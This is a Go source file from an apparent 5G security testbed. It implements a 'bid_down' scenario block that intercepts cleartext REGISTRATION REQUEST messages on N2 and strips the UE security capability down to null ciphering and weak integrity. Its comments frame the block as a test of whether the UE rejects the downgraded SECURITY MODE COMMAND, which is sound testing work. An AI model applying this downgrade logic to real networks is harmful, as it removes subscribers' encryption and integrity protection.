package blocks

import (
	"context"
	"fmt"

	"github.com/credbed/credbed/internal/nasx"
	"github.com/credbed/credbed/internal/trace"
	"github.com/credbed/credbed/internal/transport"
	"github.com/credbed/credbed/scenarios"
)

// BidDownArgs are the arguments of bid_down.
type BidDownArgs struct {
	// Selector narrows further (iface n2 and nas REGISTRATION REQUEST are
	// implied); count: 1 acts on the next registration only.
	Selector `yaml:",inline"`
	// EA and IA are the 5G-EA and 5G-IA algorithm ids (0-7) left in the UE
	// security capability; every other one is stripped. EA0 (null
	// ciphering) and IA1 by default: the weakest choice a network could
	// still make outside emergency services.
	EA []int `yaml:"ea"`
	IA []int `yaml:"ia"`
}

// Validate fills the defaults and checks the ids.
func (a *BidDownArgs) Validate() error {
	if len(a.Iface) == 0 {
		a.Iface = Kinds{"n2"}
	}
	if a.NAS == "" {
		a.NAS = nasx.MsgRegistrationRequest.String()
	}
	if err := a.Selector.Validate(); err != nil {
		return err
	}
	if len(a.EA) == 0 {
		a.EA = []int{0}
	}
	if len(a.IA) == 0 {
		a.IA = []int{1}
	}
	for _, id := range append(append([]int(nil), a.EA...), a.IA...) {
		if id < 0 || id > 7 {
			return fmt.Errorf("algorithm id %d out of range [0, 7]", id)
		}
	}
	return nil
}

// Ifaces are the selector's and N1.
func (a *BidDownArgs) Ifaces() []string { return append(a.Selector.Ifaces(), trace.IfaceN1) }

func algBits(ids []int) uint8 {
	var b uint8
	for _, id := range ids {
		b |= nasx.AlgBit(uint8(id))
	}
	return b
}

// BidDown is the man in the middle on N2 (or a false base station) bidding
// down a registration: it rewrites the UE security capability in the
// cleartext initial REGISTRATION REQUEST so that only the algorithms it
// names remain (reference/3gpp.md §6.5 K7). The AMF then selects from the
// stripped list; the UE must notice that the capabilities the SECURITY
// MODE COMMAND replays differ from what it sent and answer SECURITY MODE
// REJECT #23 (TS 33.501 §6.7.2, TS 24.501 §5.4.2.5).
func BidDown() *scenarios.Block {
	return scenarios.NewCapability("bid_down", AttackSpec(
		"strip algorithms from the UE security capability of a cleartext REGISTRATION REQUEST",
	), func(_ context.Context, st *scenarios.State, actor string, a *BidDownArgs) (any, error) {
		ea, ia := algBits(a.EA), algBits(a.IA)
		return InstallSelected(st, &a.Selector, trace.KindAttack, actor, "bid_down", func(rep *Reporter, p transport.Packet) []transport.Packet {
			v, ok := ViewN2(p)
			if !ok || !v.HasNAS || v.Header.Protected() {
				return []transport.Packet{p}
			}
			m, err := nasx.Parse(v.NAS)
			if err != nil {
				return []transport.Packet{p}
			}
			req, ok := m.(*nasx.RegistrationRequest)
			if !ok || req.UESecurityCapability == nil {
				return []transport.Packet{p}
			}
			was := req.UESecurityCapability
			caps := append(nasx.UESecurityCapability(nil), was...)
			caps[0], caps[1] = was.EA()&ea, was.IA()&ia
			req.UESecurityCapability = caps
			nas, err := req.Build()
			if err != nil {
				rep.Note("bid_down: " + err.Error())
				return []transport.Packet{p}
			}
			q, err := WithNAS(p, nas)
			if err != nil {
				rep.Note("bid_down: " + err.Error())
				return []transport.Packet{p}
			}
			rep.Act(p, fmt.Sprintf("UE security capability 5G-EA %#02x 5G-IA %#02x -> 5G-EA %#02x 5G-IA %#02x",
				was.EA(), was.IA(), caps[0], caps[1]))
			return []transport.Packet{q}
		})
	})
}
